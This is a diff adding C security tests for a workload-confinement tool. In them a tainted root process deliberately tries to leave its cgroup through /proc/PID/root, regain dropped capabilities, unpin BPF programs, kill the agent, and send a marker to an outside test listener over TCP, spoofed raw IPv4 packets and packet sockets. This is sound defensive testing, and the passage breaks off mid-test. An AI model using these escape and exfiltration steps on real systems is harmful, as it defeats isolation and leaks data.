@@ -1,22 +1,41 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * The workload as the adversary (issue 12): a workload process running as
- * root, tainted by data/secret, tries each way to get rid of its taint or
- * out of its workload, and then connects to the outside host. The outside
- * listener must receive nothing. Each test asserts "protected" where the
- * running mode closes the way, and the listed gap where it does not.
+ * The workload is the adversary (issue 12). Each test is an attack written
+ * as a hostile workload would run it — as root — with a listener on the
+ * outside test host that must receive nothing. Where the running mode
+ * closes the channel the test asserts "protected"; where it does not, it
+ * asserts the gap that trustctl status and the README list, so the two
+ * cannot disagree.
+ *
+ * Sections: the control socket; taint follows the process (cgroup.procs);
+ * the launcher (trustctl run) and socket families.
  */
+#include <arpa/inet.h>
+#include <dirent.h>
 #include <fcntl.h>
+#include <grp.h>
 #include <limits.h>
+#include <linux/bpf.h>
+#include <linux/capability.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
+#include <linux/types.h>
+#include <linux/vm_sockets.h>
+#include <net/if.h>
+#include <netinet/ip.h>
+#include <netinet/udp.h>
 #include <poll.h>
+#include <pwd.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdio.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/prctl.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
-#include <linux/types.h>
 #include "node_fixture.h"
 
 /* Whether the outside listener lfd got no connection within ms. */
@@ -392,5 +411,845 @@ TEST_F_TIMEOUT(node, listed_gap_a_child_started_outside_the_workload_by_clone3, 
 }
 
 /* Timeouts: each test builds a node; under emulation (the guest) that is slow. */
+
+
+/* ==== launcher and socket families ===================================== */
+
+/*
+ * The attacker: this very binary, started by trustctl run with
+ * TN_ADV_ACT set. It runs one attack, prints what happened as key=value
+ * lines and exits before the harness starts.
+ */
+#define MAGIC "tn-adversary-exfil"
+
+static void say(const char *key, long v)
+{
+	printf("%s=%ld\n", key, v);
+}
+
+static long try_errno(int ret)
+{
+	return ret < 0 ? errno : 0;
+}
+
+static int adv_connect(const char *addr)
+{
+	struct sockaddr_storage ss;
+	socklen_t len;
+	int fd, ret;
+
+	if (sockaddr_of(addr, PORT, &ss, &len) < 0)
+		return EINVAL;
+	fd = socket(ss.ss_family, SOCK_STREAM, 0);
+	if (fd < 0)
+		return errno;
+	ret = connect(fd, (struct sockaddr *)&ss, len) ? errno : 0;
+	if (!ret)
+		send(fd, MAGIC, strlen(MAGIC), MSG_NOSIGNAL);
+	close(fd);
+	return ret;
+}
+
+/* Taints itself, then writes its pid into each cgroup.procs in arg (':'). */
+static void act_escape(const char *arg, const char *secret)
+{
+	char list[4096], *p, *save = NULL;
+	int i = 0;
+
+	say("open", do_open(secret));
+	snprintf(list, sizeof(list), "%s", arg);
+	for (p = strtok_r(list, ":", &save); p; p = strtok_r(NULL, ":", &save)) {
+		char key[32];
+
+		snprintf(key, sizeof(key), "escape%d", i++);
+		say(key, write_file(p, "0") ? (errno ?: EIO) : 0);
+	}
+	say("connect", adv_connect(OUT4));
+}
+
+/* Taints itself, lists its descriptors, writes to 9 if it is there. */
+static void act_fds(const char *secret)
+{
+	char list[512] = "";
+	struct dirent *de;
+	DIR *d;
+
+	say("open", do_open(secret));
+	d = opendir("/proc/self/fd");
+	while (d && (de = readdir(d))) {
+		if (de->d_name[0] == '.' || atoi(de->d_name) == dirfd(d))
+			continue;
+		snprintf(list + strlen(list), sizeof(list) - strlen(list), "%s%s",
+			 list[0] ? "," : "", de->d_name);
+	}
+	if (d)
+		closedir(d);
+	printf("fds=%s\n", list);
+	say("write9", write(9, MAGIC, strlen(MAGIC)) < 0 ? errno : 0);
+}
+
+static void status_line(const char *key)
+{
+	char line[256];
+	FILE *f = fopen("/proc/self/status", "r");
+
+	while (f && fgets(line, sizeof(line), f))
+		if (!strncmp(line, key, strlen(key)))
+			printf("%s", line);
+	if (f)
+		fclose(f);
+}
+
+/* Every way back to the privileges trustctl run took away. */
+static void act_privs(void)
+{
+	struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
+	struct __user_cap_data_struct d[2];
+	union bpf_attr attr;
+	int fd;
+
+	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+	say("raw4", try_errno(fd));
+	if (fd >= 0)
+		close(fd);
+	fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
+	say("packet", try_errno(fd));
+	if (fd >= 0)
+		close(fd);
+	memset(&attr, 0, sizeof(attr));
+	attr.map_type = BPF_MAP_TYPE_ARRAY;
+	attr.key_size = 4;
+	attr.value_size = 4;
+	attr.max_entries = 1;
+	fd = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
+	say("bpf", try_errno(fd));
+	if (fd >= 0)
+		close(fd);
+	say("mount", try_errno(mount("none", "/mnt", "tmpfs", 0, NULL)));
+	say("unshare_net", try_errno(unshare(CLONE_NEWNET)));
+	/* Raise CAP_NET_RAW again: not in the permitted set, so refused. */
+	if (!syscall(SYS_capget, &h, d)) {
+		d[0].effective |= 1U << CAP_NET_RAW;
+		d[0].permitted |= 1U << CAP_NET_RAW;
+		say("capset", try_errno(syscall(SYS_capset, &h, d)));
+	}
+	say("ambient", try_errno(prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE,
+				       CAP_NET_RAW, 0, 0)));
+	say("nnp", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
+	say("uid", getuid());
+	say("euid", geteuid());
+	say("gid", getgid());
+	say("groups", getgroups(0, NULL));
+	status_line("Cap");
+}
+
+/* Taints itself, deletes every pinned link it can find, connects out. */
+static void act_unpin(const char *pin_dir, const char *secret)
+{
+	char dir[1024], path[1400];
+	struct dirent *de;
+	int n = 0, failed = 0;
+	DIR *d;
+
+	say("open", do_open(secret));
+	snprintf(dir, sizeof(dir), "%s/links", pin_dir);
+	d = opendir(dir);
+	say("opendir", d ? 0 : errno);
+	while (d && (de = readdir(d))) {
+		if (de->d_name[0] == '.')
+			continue;
+		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
+		if (unlink(path))
+			failed = errno;
+		else
+			n++;
+	}
+	if (d)
+		closedir(d);
+	say("unpinned", n);
+	say("unpin_errno", failed);
+	/* The agent holds the links while it runs: stop it (same uid). */
+	if (getenv("TN_ADV_PID"))
+		say("kill", kill(atoi(getenv("TN_ADV_PID")), SIGKILL) ? errno : 0);
+	usleep(300 * 1000);
+	say("connect", adv_connect(OUT4));
+}
+
+__attribute__((constructor)) static void adversary(void)
+{
+	const char *act = getenv("TN_ADV_ACT");
+	const char *arg = getenv("TN_ADV_ARG") ?: "";
+	const char *arg2 = getenv("TN_ADV_ARG2") ?: "";
+
+	if (!act)
+		return;
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (!strcmp(act, "escape")) {
+		act_escape(arg, arg2);
+	} else if (!strcmp(act, "fds")) {
+		act_fds(arg);
+	} else if (!strcmp(act, "privs")) {
+		act_privs();
+	} else if (!strcmp(act, "exec")) {
+		/* Run arg (a setuid-root copy of this binary) as "privs". */
+		setenv("TN_ADV_ACT", "privs", 1);
+		execl(arg, arg, (char *)NULL);
+		say("exec", errno);
+	} else if (!strcmp(act, "unpin")) {
+		act_unpin(arg, arg2);
+	} else if (!strcmp(act, "touch")) {
+		write_file(arg, "ran\n");
+	}
+	fflush(stdout);
+	_exit(0);
+}
+
+/* The value of key=... in the attacker's output, or -1. */
+static long field(const char *out, const char *key)
+{
+	char pat[64];
+	const char *p;
+
+	snprintf(pat, sizeof(pat), "\n%s=", key);
+	p = strstr(out, pat);
+	if (!p && !strncmp(out, pat + 1, strlen(pat + 1)))
+		p = out - 1;
+	return p ? strtol(p + strlen(pat), NULL, 10) : -1;
+}
+
+/* A capability set line of /proc/self/status ("CapEff:\t..."), as bits. */
+static unsigned long long capset_of(const char *out, const char *which)
+{
+	const char *p = strstr(out, which);
+
+	return p ? strtoull(p + strlen(which) + 1, NULL, 16) : ~0ULL;
+}
+
+#define DROPPED ((1ULL << CAP_SYS_ADMIN) | (1ULL << CAP_BPF) | (1ULL << CAP_PERFMON) | \
+		 (1ULL << CAP_NET_ADMIN) | (1ULL << CAP_NET_RAW) | (1ULL << CAP_SYS_MODULE) | \
+		 (1ULL << CAP_SYS_PTRACE) | (1ULL << CAP_SYS_RAWIO) | (1ULL << CAP_MKNOD) | \
+		 (1ULL << CAP_SYS_BOOT))
+
+struct launch {
+	const char *opts;	/* trustctl run options, space separated */
+	const char *act, *arg, *arg2;
+	pid_t pid;		/* TN_ADV_PID: a process the attack targets */
+	int hold_socket;	/* fd 9: a connection to OUT4:PORT made outside */
+	const char *hold_file;	/* fd 8: this file, opened outside */
+};
+
+static const char *self_exe(void)
+{
+	static char path[4096];
+
+	if (!path[0] && readlink("/proc/self/exe", path, sizeof(path) - 1) < 0)
+		return "/proc/self/exe";
+	return path;
+}
+
+/*
+ * Runs this binary as l->act under trustctl run --workload wl, from the
+ * workload network namespace. Returns trustctl's exit status; its output
+ * (the attacker's and trustctl's) goes to out.
+ */
+static int launch(struct tn_node *n, const struct launch *l, char *out, size_t len)
+{
+	char bin[512], opts[512], *argv[32], *p, *save = NULL;
+	int pfd[2], argc = 0, st;
+	size_t got = 0;
+	ssize_t r;
+	pid_t pid;
+
+	snprintf(bin, sizeof(bin), "%s/trustctl", tn_build());
+	snprintf(opts, sizeof(opts), "%s", l->opts ?: "");
+	argv[argc++] = bin;
+	argv[argc++] = "run";
+	argv[argc++] = "--workload";
+	argv[argc++] = "wl";
+	for (p = strtok_r(opts, " ", &save); p && argc < 28; p = strtok_r(NULL, " ", &save))
+		argv[argc++] = p;
+	argv[argc++] = "--";
+	argv[argc++] = (char *)self_exe();
+	argv[argc] = NULL;
+	if (pipe(pfd))
+		return -1;
+	pid = fork();
+	if (pid < 0)
+		return -1;
+	if (pid == 0) {
+		int z = open("/dev/null", O_RDONLY);
+
+		dup2(z, 0);
+		dup2(pfd[1], 1);
+		dup2(pfd[1], 2);
+		close(pfd[0]);
+		close(pfd[1]);
+		if (join_netns(n->ns_wl))
+			_exit(240);
+		if (l->hold_socket) {
+			struct sockaddr_storage ss;
+			socklen_t sl;
+			int s;
+
+			sockaddr_of(OUT4, PORT, &ss, &sl);
+			s = socket(AF_INET, SOCK_STREAM, 0);
+			if (s < 0 || connect(s, (struct sockaddr *)&ss, sl) || dup2(s, 9) != 9)
+				_exit(241);
+		}
+		if (l->hold_file) {
+			int f = open(l->hold_file, O_RDONLY);
+
+			if (f < 0 || dup2(f, 8) != 8)
+				_exit(242);
+		}
+		setenv("TRUSTNODE_SOCKET", n->socket, 1);
+		setenv("TN_ADV_ACT", l->act, 1);
+		setenv("TN_ADV_ARG", l->arg ?: "", 1);
+		setenv("TN_ADV_ARG2", l->arg2 ?: "", 1);
+		if (l->pid) {
+			char num[16];
+
+			snprintf(num, sizeof(num), "%d", l->pid);
+			setenv("TN_ADV_PID", num, 1);
+		}
+		execv(bin, argv);
+		_exit(243);
+	}
+	close(pfd[1]);
+	while (got + 1 < len && (r = read(pfd[0], out + got, len - got - 1)) > 0)
+		got += r;
+	out[got] = '\0';
+	close(pfd[0]);
+	if (waitpid(pid, &st, 0) != pid || !WIFEXITED(st))
+		return -1;
+	return WEXITSTATUS(st);
+}
+
+/* Whether the listener has a connection waiting or got any byte. */
+static int listener_received(int listener)
+{
+	struct pollfd p = { .fd = listener, .events = POLLIN };
+	char buf[256];
+	int c;
+
+	if (poll(&p, 1, 300) <= 0)
+		return 0;
+	c = accept4(listener, NULL, NULL, SOCK_NONBLOCK);
+	if (c < 0)
+		return 0;
+	p.fd = c;
+	poll(&p, 1, 300);
+	recv(c, buf, sizeof(buf), MSG_DONTWAIT);
+	close(c);
+	return 1;
+}
+
+/* ---- the cgroup namespace, and nsdelegate ---- */
+
+/* cgroup2's mount point and whether nsdelegate is on; also its MS_ flags. */
+static int nsdelegate_state(char *mnt, size_t n, unsigned long *flags)
+{
+	char dev[256], dir[1024], type[64], opts[1024];
+	FILE *f = fopen("/proc/self/mounts", "r");
+	int on = -1;
+
+	*flags = 0;
+	while (f && fscanf(f, "%255s %1023s %63s %1023s %*[^\n]", dev, dir, type, opts) == 4) {
+		if (strcmp(type, "cgroup2"))
+			continue;
+		snprintf(mnt, n, "%s", dir);
+		on = strstr(opts, "nsdelegate") != NULL;
+		if (strstr(opts, "nosuid"))
+			*flags |= MS_NOSUID;
+		if (strstr(opts, "nodev"))
+			*flags |= MS_NODEV;
+		if (strstr(opts, "noexec"))
+			*flags |= MS_NOEXEC;
+		break;
+	}
+	if (f)
+		fclose(f);
+	return on;
+}
+
+/*
+ * A root process outside every workload, in the host's mount namespace,
+ * holding no more capabilities than trustctl run leaves a workload: one
+ * whose /proc/PID/root the workload may enter (same uid, capabilities a
+ * subset of its own). Returns its pid; it waits to be killed.
+ */
+static pid_t weak_root_process(void)
+{
+	pid_t pid = fork();
+
+	if (pid == 0) {
+		struct __user_cap_header_struct h = { _LINUX_CAPABILITY_VERSION_3, 0 };
+		struct __user_cap_data_struct d[2];
+		int cap;
+
+		for (cap = 0; cap < 64; cap++)
+			if (DROPPED & (1ULL << cap))
+				prctl(PR_CAPBSET_DROP, cap, 0, 0, 0);
+		syscall(SYS_capget, &h, d);
+		d[0].permitted &= ~(__u32)DROPPED;
+		d[1].permitted &= ~(__u32)(DROPPED >> 32);
+		d[0].effective = d[0].permitted;
+		d[1].effective = d[1].permitted;
+		d[0].inheritable = d[1].inheritable = 0;
+		syscall(SYS_capset, &h, d);
+		pause();
+		_exit(0);
+	}
+	usleep(100 * 1000);
+	return pid;
+}
+
+/*
+ * Attack: root in the workload, tainted, writes its pid into an untainted
+ * workload's cgroup.procs: by the path it sees, through the init process's
+ * root (/proc/1/root), and through the root of a root process it may
+ * enter (see weak_root_process); then connects out.
+ */
+static void escape_attack(struct tn_node *n, char *out, size_t len, pid_t weak)
+{
+	char targets[2048];
+
+	snprintf(targets, sizeof(targets),
+		 "%s/cgroup.procs:/proc/1/root%s/cgroup.procs:/proc/%d/root%s/cgroup.procs",
+		 n->wl2_cg, n->wl2_cg, weak, n->wl2_cg);
+	launch(n, &(struct launch){ .act = "escape", .arg = targets,
+				    .arg2 = data(n, "secret") }, out, len);
+}
+
+/*
+ * This test turns nsdelegate on for the whole cgroup2 hierarchy when it
+ * finds it off (mount -o remount,nsdelegate), and puts it back as it found
+ * it right after the attack (a remount without the option turns it off).
+ */
+TEST_F_TIMEOUT(node, root_in_trustctl_run_cannot_leave_its_cgroup_with_nsdelegate, 180)
+{
+	char mnt[1024], out[8192] = "";
+	unsigned long flags;
+	int was = nsdelegate_state(mnt, sizeof(mnt), &flags), now;
+	pid_t weak = weak_root_process();
+
+	ASSERT_LE(0, was);
+	if (!was)
+		ASSERT_EQ(0, run_cmd("mount -o remount,nsdelegate %s", mnt));
+	now = nsdelegate_state(mnt, sizeof(mnt), &flags);
+	if (now == 1)
+		escape_attack(&self->n, out, sizeof(out), weak);
+	if (!was)
+		ASSERT_EQ(0, mount(NULL, mnt, NULL, MS_REMOUNT | flags, ""));
+	kill(weak, SIGKILL);
+	waitpid(weak, NULL, 0);
+	ASSERT_EQ(was, nsdelegate_state(mnt, sizeof(mnt), &flags));
+	ASSERT_EQ(1, now);
+
+	EXPECT_EQ(0, field(out, "open")) TH_LOG("%s", out);
+	EXPECT_NE(0, field(out, "escape0"));
+	EXPECT_NE(0, field(out, "escape1"));
+	EXPECT_NE(0, field(out, "escape2"));
+	EXPECT_EQ(EPERM, field(out, "connect"));
+	EXPECT_FALSE(listener_received(self->listeners[0]));
+	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
+	EXPECT_STREQ("-", taint_of(&self->n, "wl2"));
+	EXPECT_NE(0, run_cmd("grep -q . %s/cgroup.procs", self->n.wl2_cg));
+}
+
+/*
+ * Without nsdelegate, trustctl run's own mount namespace still hides every
+ * cgroup outside the workload, and /proc/1/root is closed to it (the init
+ * process holds capabilities the workload lacks); what remains is the
+ * listed gap: the root of a root process with no more capabilities.
+ */
+TEST_F_TIMEOUT(node, without_nsdelegate_leaving_the_cgroup_is_a_listed_gap, 180)
+{
+	char mnt[1024], out[8192];
+	unsigned long flags;
+	pid_t weak;
+
+	if (nsdelegate_state(mnt, sizeof(mnt), &flags) != 0)
+		SKIP(return, "cgroup2 is mounted with nsdelegate here: no such gap");
+	weak = weak_root_process();
+	escape_attack(&self->n, out, sizeof(out), weak);
+	kill(weak, SIGKILL);
+	waitpid(weak, NULL, 0);
+	/* The launcher says so, and so does trustctl status. */
+	EXPECT_NE(NULL, strstr(out, "without nsdelegate")) TH_LOG("%s", out);
+	EXPECT_TRUE(gap_listed(&self->n, "nsdelegate"));
+	EXPECT_EQ(ENOENT, field(out, "escape0")) TH_LOG("%s", out);
+	EXPECT_EQ(EACCES, field(out, "escape1"));
+	/* The gap is real: that write moved the process. */
+	EXPECT_EQ(0, field(out, "escape2"));
+}
+
+/* ---- descriptors ---- */
+
+TEST_F_TIMEOUT(node, descriptors_from_outside_the_workload_are_not_inherited, 180)
+{
+	struct pollfd p = { .fd = self->listeners[0], .events = POLLIN };
+	char out[8192], buf[256];
+	int rc, c;
+
+	rc = launch(&self->n, &(struct launch){ .act = "fds", .arg = data(&self->n, "secret"),
+		    .hold_socket = 1, .hold_file = data(&self->n, "plain") },
+		    out, sizeof(out));
+	ASSERT_EQ(0, rc) TH_LOG("%s", out);
+	EXPECT_EQ(0, field(out, "open")) TH_LOG("%s", out);
+	EXPECT_NE(NULL, strstr(out, "fds=0,1,2\n")) TH_LOG("%s", out);
+	EXPECT_EQ(EBADF, field(out, "write9"));
+	/* The connection was made (outside the workload) and carried nothing. */
+	ASSERT_EQ(1, poll(&p, 1, 1000));
+	c = accept(self->listeners[0], NULL, NULL);
+	ASSERT_LE(0, c);
+	EXPECT_GE(0, recv(c, buf, sizeof(buf), MSG_DONTWAIT));
+	close(c);
+
+	/* --keep-fd passes exactly the descriptors named. */
+	rc = launch(&self->n, &(struct launch){ .act = "fds", .arg = data(&self->n, "plain"),
+		    .opts = "--keep-fd 8", .hold_file = data(&self->n, "plain") },
+		    out, sizeof(out));
+	ASSERT_EQ(0, rc) TH_LOG("%s", out);
+	EXPECT_NE(NULL, strstr(out, "fds=0,1,2,8\n")) TH_LOG("%s", out);
+}
+
+/* ---- privileges ---- */
+
+TEST_F_TIMEOUT(node, root_in_trustctl_run_cannot_regain_privileges, 180)
+{
+	char out[8192];
+	int rc;
+
+	rc = launch(&self->n, &(struct launch){ .act = "privs" }, out, sizeof(out));
+	ASSERT_EQ(0, rc) TH_LOG("%s", out);
+	EXPECT_EQ(0, field(out, "uid")) TH_LOG("%s", out);
+	EXPECT_EQ(EPERM, field(out, "raw4"));
+	EXPECT_EQ(EPERM, field(out, "packet"));
+	EXPECT_EQ(EPERM, field(out, "bpf"));
+	EXPECT_EQ(EPERM, field(out, "mount"));
+	EXPECT_EQ(EPERM, field(out, "unshare_net"));
+	EXPECT_EQ(EPERM, field(out, "capset"));
+	EXPECT_EQ(EPERM, field(out, "ambient"));
+	EXPECT_EQ(1, field(out, "nnp"));
+	EXPECT_EQ(0ULL, capset_of(out, "CapBnd:") & DROPPED);
+	EXPECT_EQ(0ULL, capset_of(out, "CapPrm:") & DROPPED);
+	EXPECT_EQ(0ULL, capset_of(out, "CapEff:") & DROPPED);
+	EXPECT_EQ(0ULL, capset_of(out, "CapInh:") & DROPPED);
+	EXPECT_EQ(0ULL, capset_of(out, "CapAmb:"));
+	/* Root keeps the rest: it is still root, only without these. */
+	EXPECT_NE(0ULL, capset_of(out, "CapEff:") & (1ULL << CAP_DAC_OVERRIDE));
+
+	/* --cap keeps one on purpose. */
+	rc = launch(&self->n, &(struct launch){ .act = "privs", .opts = "--cap net_raw" },
+		    out, sizeof(out));
+	ASSERT_EQ(0, rc) TH_LOG("%s", out);
+	EXPECT_EQ(0, field(out, "raw4")) TH_LOG("%s", out);
+	EXPECT_EQ(EPERM, field(out, "mount"));
+}
+
+TEST_F_TIMEOUT(node, user_runs_as_that_user_and_setuid_binaries_grant_nothing, 180)
+{
+	struct passwd *pw = getpwnam("nobody");
+	char out[8192], suid[400];
+	int rc;
+
+	ASSERT_NE(NULL, pw);
+	rc = launch(&self->n, &(struct launch){ .act = "privs", .opts = "--user nobody" },
+		    out, sizeof(out));
+	ASSERT_EQ(0, rc) TH_LOG("%s", out);
+	EXPECT_EQ(pw->pw_uid, field(out, "uid")) TH_LOG("%s", out);
+	EXPECT_EQ(pw->pw_uid, field(out, "euid"));
+	EXPECT_EQ(pw->pw_gid, field(out, "gid"));
+	EXPECT_EQ(0ULL, capset_of(out, "CapPrm:"));
+	EXPECT_EQ(0ULL, capset_of(out, "CapEff:"));
+	EXPECT_EQ(1, field(out, "nnp"));
+
+	/* --cap with --user: that one capability, ambient, and no other. */
+	rc = launch(&self->n, &(struct launch){ .act = "privs",
+		    .opts = "--user nobody --cap CAP_NET_BIND_SERVICE" }, out, sizeof(out));
+	ASSERT_EQ(0, rc) TH_LOG("%s", out);
+	EXPECT_EQ(1ULL << CAP_NET_BIND_SERVICE, capset_of(out, "CapEff:")) TH_LOG("%s", out);
+	EXPECT_EQ(1ULL << CAP_NET_BIND_SERVICE, capset_of(out, "CapAmb:"));
+
+	/* A setuid-root binary the workload runs stays nobody's. */
+	snprintf(suid, sizeof(suid), "%s/suid-adversary", self->n.tmp);
+	ASSERT_EQ(0, run_cmd("cp %s %s && chown root:root %s && chmod 4755 %s",
+			     self_exe(), suid, suid, suid));
+	rc = launch(&self->n, &(struct launch){ .act = "exec", .arg = suid,
+		    .opts = "--user nobody" }, out, sizeof(out));
+	ASSERT_EQ(0, rc) TH_LOG("%s", out);
+	EXPECT_EQ(pw->pw_uid, field(out, "euid")) TH_LOG("%s", out);
+	EXPECT_EQ(0ULL, capset_of(out, "CapEff:"));
+}
+
+TEST_F_TIMEOUT(node, trustctl_run_refuses_bad_input_and_starts_nothing, 180)
+{
+	char out[8192], mark[400];
+
+	snprintf(mark, sizeof(mark), "%s/ran", self->n.tmp);
+	EXPECT_EQ(5, launch(&self->n, &(struct launch){ .act = "touch", .arg = mark,
+			    .opts = "--user no-such-user-tn" }, out, sizeof(out)));
+	EXPECT_NE(NULL, strstr(out, "no-such-user-tn")) TH_LOG("%s", out);
+	EXPECT_EQ(2, launch(&self->n, &(struct launch){ .act = "touch", .arg = mark,
+			    .opts = "--keep-fd 77" }, out, sizeof(out)));
+	EXPECT_NE(NULL, strstr(out, "not an open descriptor")) TH_LOG("%s", out);
+	EXPECT_EQ(2, launch(&self->n, &(struct launch){ .act = "touch", .arg = mark,
+			    .opts = "--cap CAP_NO_SUCH" }, out, sizeof(out)));
+	EXPECT_EQ(2, launch(&self->n, &(struct launch){ .act = "touch", .arg = mark,
+			    .opts = "--keep-fd 1" }, out, sizeof(out)));
+	EXPECT_NE(0, access(mark, F_OK));
+	/* No run cgroup was left behind. */
+	EXPECT_NE(0, run_cmd("ls -d %s/run.* >/dev/null 2>&1", self->n.wl_cg));
+	/* And the same command with good input does run. */
+	EXPECT_EQ(0, launch(&self->n, &(struct launch){ .act = "touch", .arg = mark },
+			    out, sizeof(out))) TH_LOG("%s", out);
+	EXPECT_EQ(0, access(mark, F_OK));
+}
+
+/*
+ * Attack: root in the workload deletes trustnode's pinned links under
+ * /sys/fs/bpf (the pins are root's files), which detaches the programs
+ * when nothing else holds them, then connects out.
+ */
+TEST_F_TIMEOUT(node, root_in_trustctl_run_cannot_unpin_the_programs, 180)
+{
+	char out[8192];
+	int rc;
+
+	rc = launch(&self->n, &(struct launch){ .act = "unpin", .arg = self->n.pin,
+		    .arg2 = data(&self->n, "secret"), .pid = self->n.agent }, out, sizeof(out));
+	ASSERT_EQ(0, rc) TH_LOG("%s", out);
+	EXPECT_EQ(0, field(out, "open")) TH_LOG("%s", out);
+	EXPECT_EQ(0, field(out, "unpinned")) TH_LOG("%s", out);
+	EXPECT_EQ(EPERM, field(out, "connect"));
+	EXPECT_FALSE(listener_received(self->listeners[0]));
+	EXPECT_EQ(EPERM, ACT(&self->n, self->n.wl_cg, .connect = OUT4));
+}
+
+/* ---- raw, packet and vsock sockets ---- */
+
+/*
+ * The outside host's ears: a packet socket on its end of the veth that
+ * sees every frame arriving there, whatever the protocol or address.
+ */
+static int out_sniffer(struct tn_node *n)
+{
+	struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
+	int self = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC), fd = -1;
+	char ifname[48];
+
+	snprintf(ifname, sizeof(ifname), "o%s", n->id);
+	if (self < 0 || join_netns(n->ns_out))
+		goto out;
+	fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
+	ll.sll_ifindex = if_nametoindex(ifname);
+	if (fd >= 0 && (!ll.sll_ifindex || bind(fd, (struct sockaddr *)&ll, sizeof(ll)))) {
+		close(fd);
+		fd = -1;
+	}
+	setns(self, CLONE_NEWNET);
+out:
+	if (self >= 0)
+		close(self);
+	return fd;
+}
+
+/* Whether a frame carrying magic reached the outside host. */
+static int sniffed(int fd, const char *magic)
+{
+	char buf[2048];
+	ssize_t r;
+	int seen = 0;
+
+	usleep(300 * 1000);
+	while ((r = recv(fd, buf, sizeof(buf), MSG_DONTWAIT)) > 0)
+		if (memmem(buf, r, magic, strlen(magic)))
+			seen = 1;
+	return seen;
+}
+
+static uint16_t csum(const void *p, size_t len)
+{
+	const uint16_t *w = p;
+	uint32_t sum = 0;
+
+	for (; len > 1; len -= 2)
+		sum += *w++;
+	if (len)
+		sum += *(const uint8_t *)w;
+	sum = (sum >> 16) + (sum & 0xffff);
+	return ~(sum + (sum >> 16));
+}
+
+struct raw_attack {
+	const char *secret;	/* opened first (taint), unless NULL */
+	int family, type, proto;
+	int open_before_taint;	/* the socket is made, then the secret read */
+	const char *magic;	/* sent to OUT4:PORT when the socket exists */
+};
+
+/*
+ * A raw IPv4 packet with its own header (IP_HDRINCL), UDP to OUT4:PORT;
+ * a frame for an AF_PACKET socket; or a vsock connect to the host (CID 2).
+ */
+static int raw_send(int fd, const struct raw_attack *a)
+{
+	char pkt[128] = { 0 };
+	struct iphdr *ip = (struct iphdr *)pkt;
+	struct udphdr *udp = (struct udphdr *)(ip + 1);
+	size_t plen = strlen(a->magic), len = sizeof(*ip) + sizeof(*udp) + plen;
+	struct sockaddr_in to = { .sin_family = AF_INET };
+
+	if (a->family == AF_VSOCK) {
+		struct sockaddr_vm vm = { .svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST,
+					  .svm_port = PORT };
+
+		return connect(fd, (struct sockaddr *)&vm, sizeof(vm)) ? errno : 0;
+	}
+	if (a->family == AF_PACKET) {
+		struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_halen = 6,
+					  .sll_protocol = htons(ETH_P_IP) };
+		struct if_nameindex *ifs = if_nameindex(), *i;
+
+		/* The workload's end of the veth: the only interface but lo. */
+		for (i = ifs; i && i->if_index; i++)
+			if (i->if_name[0] == 'v')
+				ll.sll_ifindex = i->if_index;
+		if_freenameindex(ifs);
+		memset(ll.sll_addr, 0xff, 6);
+		return sendto(fd, a->magic, plen, 0, (struct sockaddr *)&ll, sizeof(ll)) < 0 ? errno : 0;
+	}
+	ip->version = 4;
+	ip->ihl = 5;
+	ip->ttl = 64;
+	ip->protocol = IPPROTO_UDP;
+	ip->tot_len = htons(len);
+	inet_pton(AF_INET, "203.0.113.1", &ip->saddr);
+	inet_pton(AF_INET, OUT4, &ip->daddr);
+	ip->check = csum(ip, sizeof(*ip));
+	udp->source = htons(40000);
+	udp->dest = htons(PORT);
+	udp->len = htons(sizeof(*udp) + plen);
+	memcpy(udp + 1, a->magic, plen);
+	to.sin_addr.s_addr = ip->daddr;
+	return sendto(fd, pkt, len, 0, (struct sockaddr *)&to, sizeof(to)) < 0 ? errno : 0;
+}
+
+/* Returns 0 when the socket was made and used, else 100 + errno of socket(). */
+static int raw_attack(void *arg)
+{
+	const struct raw_attack *a = arg;
+	int fd = -1, one = 1, ret;
+
+	if (a->open_before_taint)
+		fd = socket(a->family, a->type, a->proto);
+	if (a->secret && do_open(a->secret))
+		return 254;
+	if (!a->open_before_taint)
+		fd = socket(a->family, a->type, a->proto);
+	if (fd < 0)
+		return 100 + errno;
+	if (a->family == AF_INET && a->type == SOCK_RAW)
+		setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one));
+	ret = a->magic ? raw_send(fd, a) : 0;
+	close(fd);
+	return ret ? 50 : 0;
+}
+
+#define RAW(n, cg, ...) in_cgroup(n, cg, raw_attack, &(struct raw_attack){ __VA_ARGS__ })
+
+/*
+ * Attack: a tainted root workload that still holds CAP_NET_RAW (started
+ * without trustctl run) writes its own IPv4 header and sends a packet to
+ * the outside host. Refused at socket(), in both modes.
+ */
+TEST_F_TIMEOUT(node, a_tainted_workload_cannot_open_raw_ip_sockets, 180)
+{
+	int sniff = out_sniffer(&self->n);
+
+	ASSERT_LE(0, sniff);
+	ASSERT_TRUE(node_lsm_mode(&self->n) || !lsm_expected());
+	/* The control: untainted, the same packet reaches the outside host. */
+	EXPECT_EQ(0, RAW(&self->n, self->n.wl2_cg, .family = AF_INET, .type = SOCK_RAW,
+			 .proto = IPPROTO_RAW, .magic = MAGIC "-control"));
+	EXPECT_TRUE(sniffed(sniff, MAGIC "-control"));
+
+	EXPECT_EQ(100 + EPERM, RAW(&self->n, self->n.wl_cg, .secret = data(&self->n, "secret"),
+				   .family = AF_INET, .type = SOCK_RAW, .proto = IPPROTO_RAW,
+				   .magic = MAGIC));
